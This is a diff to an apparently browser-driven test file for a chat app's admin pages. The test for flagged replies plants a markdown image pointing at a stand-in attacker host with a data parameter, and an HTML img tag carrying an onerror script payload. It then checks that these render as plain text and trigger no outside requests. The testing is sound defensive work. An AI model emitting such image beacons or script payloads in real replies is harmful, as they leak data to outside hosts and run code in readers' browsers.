@@ -91,7 +91,8 @@ t.test('[ROOM22] the charts of analytics can be read by mouse, by keys and with 
   t.equal(await getChart('Volume').locator('tbody tr').count(), 30)
   await getChart('Volume').locator('summary').click()
   await page.locator('.choices button', { hasText: '7 days' }).click()
-  await page.waitForFunction(() => document.querySelector<HTMLInputElement>('.day-slider')?.max === '6') // The slider counts from 0.
+  // The slider of seven days counts from 0.
+  await page.waitForFunction(() => document.querySelector<HTMLInputElement>('.day-slider')?.max === '6')
   const valueOfAllModels = await page.locator('.tiles .value').first().innerText()
   await page.locator('.choices select').selectOption({ label: 'qwen3:8b' })
   t.not(await page.locator('.tiles .value').first().innerText(), valueOfAllModels)
@@ -121,55 +122,52 @@ t.test('[ROOM23] the models page shows rules, fallbacks and counters, but no hos
   await context.close()
 })
 
-t.test(
-  '[ROOM24] flagged replies are listed, shown as plain text and judged; the text of a private reply is not shown',
-  async (t) => {
-    const hostile = '![p](https://evil.example/p.png?d=1) <img src=x onerror="window.pwned = 1">'
-    model.sendReasoning('room-words', '![q](https://evil.example/q.png)')
-    for (const [user, visibility] of [
-      [warRoom.alice, 'room'],
-      [warRoom.bob, 'private'],
-    ] as const) {
-      const { body } = await user.ask(warRoom.getApiUrl(0), warRoom.event_id, `${visibility}-words ${hostile}`, {
-        visibility,
-      })
-      await user.waitForReply(warRoom.getApiUrl(0), body)
-    }
-    const { page, context, errors, externalRequests } = await openAdminPage('root-f', 'flagged')
-    const getItem = (text: string) => page.locator('.flagged-item', { hasText: text })
-    await getItem('Private').waitFor()
-    t.match(await getItem('Private').innerText(), /Remote image 1 ×[\s\S]*findings are shown without the text/)
-    t.equal(await getItem('Private').locator('code, details, a').count(), 0)
-    const shared = getItem('Shared with the room')
-    t.match(await shared.locator('.hit').allInnerTexts(), [
-      /^Remote image 1 ×$/,
-      /HTML/,
-      'Remote image 1 × in what the model thought',
-    ])
-    await shared.locator('summary').click()
-    t.match(await shared.locator('.source').innerText(), /room-words/)
-    t.notMatch(await page.locator('.flagged').innerText(), 'private-words')
-    t.equal(await shared.locator('.source *').count(), 0, 'the answer is shown as plain text')
-    t.equal(await page.evaluate(() => 'pwned' in window), false)
-    await checkAccessibility(t, page)
-    await page.setViewportSize({ width: 1280, height: 800 })
-    await page.locator('.account [aria-label="English"]').click()
+t.test('[ROOM24] flagged replies are listed, shown as plain text and judged; private ones show no text', async (t) => {
+  const hostile = '![p](https://evil.example/p.png?d=1) <img src=x onerror="window.pwned = 1">'
+  model.sendReasoning('room-words', '![q](https://evil.example/q.png)')
+  for (const [user, visibility] of [
+    [warRoom.alice, 'room'],
+    [warRoom.bob, 'private'],
+  ] as const) {
+    const { body } = await user.ask(warRoom.getApiUrl(0), warRoom.event_id, `${visibility}-words ${hostile}`, {
+      visibility,
+    })
+    await user.waitForReply(warRoom.getApiUrl(0), body)
+  }
+  const { page, context, errors, externalRequests } = await openAdminPage('root-f', 'flagged')
+  const getItem = (text: string) => page.locator('.flagged-item', { hasText: text })
+  await getItem('Private').waitFor()
+  t.match(await getItem('Private').innerText(), /Remote image 1 ×[\s\S]*findings are shown without the text/)
+  t.equal(await getItem('Private').locator('code, details, a').count(), 0)
+  const shared = getItem('Shared with the room')
+  t.match(await shared.locator('.hit').allInnerTexts(), [
+    /^Remote image 1 ×$/,
+    /HTML/,
+    'Remote image 1 × in what the model thought',
+  ])
+  await shared.locator('summary').click()
+  t.match(await shared.locator('.source').innerText(), /room-words/)
+  t.notMatch(await page.locator('.flagged').innerText(), 'private-words')
+  t.equal(await shared.locator('.source *').count(), 0, 'the answer is shown as plain text')
+  t.equal(await page.evaluate(() => 'pwned' in window), false)
+  await checkAccessibility(t, page)
+  await page.setViewportSize({ width: 1280, height: 800 })
+  await page.locator('.account [aria-label="English"]').click()
 
-    await shared.locator('input').fill('their logo')
-    await shared.locator('button', { hasText: 'Harmless' }).click()
-    await shared.locator('.judged.harmless').waitFor()
-    await page.locator('.choices select').first().selectOption({ label: 'Harmful' })
-    await page.locator('.flagged', { hasText: 'Nothing matches these filters.' }).waitFor()
-    await page.locator('.choices select').first().selectOption({ label: 'Harmless' })
-    await shared.waitFor()
-    t.equal(await shared.locator('input').inputValue(), 'their logo')
-    t.equal(await page.locator('.flagged-item').count(), 1)
-    await page.locator('.choices select').nth(1).selectOption({ label: 'Secret in a link' })
-    await shared.waitFor({ state: 'detached' })
-    t.same([errors, externalRequests], [[], []])
-    await context.close()
-  },
-)
+  await shared.locator('input').fill('their logo')
+  await shared.locator('button', { hasText: 'Harmless' }).click()
+  await shared.locator('.judged.harmless').waitFor()
+  await page.locator('.choices select').first().selectOption({ label: 'Harmful' })
+  await page.locator('.flagged', { hasText: 'Nothing matches these filters.' }).waitFor()
+  await page.locator('.choices select').first().selectOption({ label: 'Harmless' })
+  await shared.waitFor()
+  t.equal(await shared.locator('input').inputValue(), 'their logo')
+  t.equal(await page.locator('.flagged-item').count(), 1)
+  await page.locator('.choices select').nth(1).selectOption({ label: 'Secret in a link' })
+  await shared.waitFor({ state: 'detached' })
+  t.same([errors, externalRequests], [[], []])
+  await context.close()
+})
 
 t.test('[ROOM22] other users neither see nor request the pages for administrators', async (t) => {
   const { page, context } = await warRoom.openAsEngineer('nosy')
